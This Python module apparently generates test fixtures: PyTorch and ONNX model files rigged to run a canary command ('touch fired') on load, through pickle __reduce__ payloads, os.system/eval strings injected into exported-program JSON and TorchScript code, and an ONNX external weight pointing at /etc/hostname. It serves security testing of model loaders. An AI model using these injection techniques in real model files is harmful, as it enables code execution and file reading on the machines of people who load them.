"""Graphs that run a command when a framework loads them, by every route that was found."""

from __future__ import annotations

import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from graphs import exported, script_file
from onnx import TensorProto, helper

__all__ = ["CODE", "PICKLE", "Change", "changed", "external", "foreign_graph", "in_program", "write_graphs"]

COMMAND = "touch fired"
CODE = f"__import__('os').system('{COMMAND}')"
Change = Callable[[str, bytes], bytes]
"""The new content of an archive's entry, by its name and its old content."""


class Payload:
    """What unpickling would run."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (COMMAND,)


PICKLE = pickle.dumps(Payload())


def write_graphs(folder: Path) -> None:
    """One file for each route; "inputs.pt2" is one that PyTorch's own loader runs."""
    still, moving = exported("policy"), exported("words", dynamic=True)
    changed(still, folder / "inputs.pt2", sample_inputs)
    changed(still, folder / "weights.pt2", pickled_weights)
    changed(moving, folder / "symbols.pt2", in_program(symbols))
    changed(moving, folder / "guards.pt2", in_program(guards))
    changed(still, folder / "targets.pt2", in_program(targets))
    changed(script_file("policy"), folder / "pickle.pt", script_pickle)
    changed(script_file("policy"), folder / "code.pt", script_code)
    (folder / "foreign.onnx").write_bytes(foreign_graph())


def changed(path: Path, target: Path, change: Change) -> None:
    """A copy of an archive, each entry through `change`."""
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))


def in_program(change: Callable[[dict[str, Any]], None]) -> Change:
    """A change of the JSON of the program alone."""

    def entry(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        program = json.loads(data)
        change(program)
        return json.dumps(program).encode()

    return entry


def symbols(program: dict[str, Any]) -> None:
    for meta in program["graph_module"]["graph"]["tensor_values"].values():
        for size in meta["sizes"]:
            if "as_expr" in size:
                size["as_expr"]["expr_str"] = CODE


def guards(program: dict[str, Any]) -> None:
    program["guards_code"] = [CODE]


def targets(program: dict[str, Any]) -> None:
    for node, target in zip(
        program["graph_module"]["graph"]["nodes"],
        ["torch.os.system", "builtins.eval", "torch.ops.aten.from_file.default"],
        strict=False,
    ):
        node["target"] = target


def pickled_weights(name: str, data: bytes) -> bytes:
    if name.endswith("weights_config.json"):
        return data.replace(b'"use_pickle": false', b'"use_pickle": true')
    return PICKLE if "/data/weights/weight_" in name else data


def sample_inputs(name: str, data: bytes) -> bytes:
    return PICKLE if "sample_inputs" in name else data


def script_pickle(name: str, data: bytes) -> bytes:
    return PICKLE if name.endswith((".pkl", ".debug_pkl")) else data


def script_code(name: str, data: bytes) -> bytes:
    code = f"class Policy(Module):\n  p : Final[int] = {CODE}\n{CODE}\n"
    return code.encode() if name.endswith(".py") else data


def foreign_graph() -> bytes:
    """An operator of somebody's own, whose weights lie in a file of the machine."""
    return external("/etc/hostname", kind="PyFunc", domain="os.system", code=CODE)


def external(location: str, *, kind: str = "Add", domain: str = "", elements: int = 2, **settings: str) -> bytes:
    """An ONNX model whose only weight lies elsewhere."""
    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[elements], data_location=TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value=location)
    value = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
    node = helper.make_node(kind, ["x", "w"], ["y"], domain=domain, **settings)
    result = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    model = helper.make_model(helper.make_graph([node], "g", [value], [result], initializer=[tensor]))
    helper.set_model_props(model, {"pkg.torch.onnx.name_scopes": f"[{CODE}]"})
    return bytes(model.SerializeToString())
